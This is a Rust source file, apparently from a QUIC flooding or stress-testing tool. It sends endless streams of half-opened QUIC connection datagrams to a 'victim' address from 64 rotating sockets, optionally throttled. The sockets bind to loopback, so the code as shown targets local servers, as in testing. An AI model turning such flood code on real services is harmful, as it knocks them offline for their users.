//! First datagrams of QUIC connections that never continue.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use super::attack::Done;

/// Source sockets.
const SOCKETS: usize = 64;
/// Datagrams between two pauses.
const PIECE: usize = 100;

/// Sends them for ever, each round from another socket: at a given rate, or as fast as possible.
pub(crate) fn fire(victim: SocketAddr, datagrams: &[Vec<u8>], rate: Option<u32>, done: &Done) {
    let pause = rate.map(|rate| Duration::from_secs(1) * PIECE as u32 / rate);
    let mut due = Instant::now();
    let socket = |_| UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).expect("a socket");
    let sockets: Vec<_> = (0..SOCKETS).map(socket).collect();
    for round in 0.. {
        for (at, datagram) in datagrams.iter().enumerate() {
            if let Some(pause) = pause.filter(|_| at % PIECE == 0) {
                due += pause;
                std::thread::sleep(due.saturating_duration_since(Instant::now()));
            }
            // A full buffer of the kernel: the next one is sent later.
            if sockets[(at + round) % SOCKETS].send_to(datagram, victim).is_ok() {
                Done::count(&done.begun);
            }
        }
    }
}
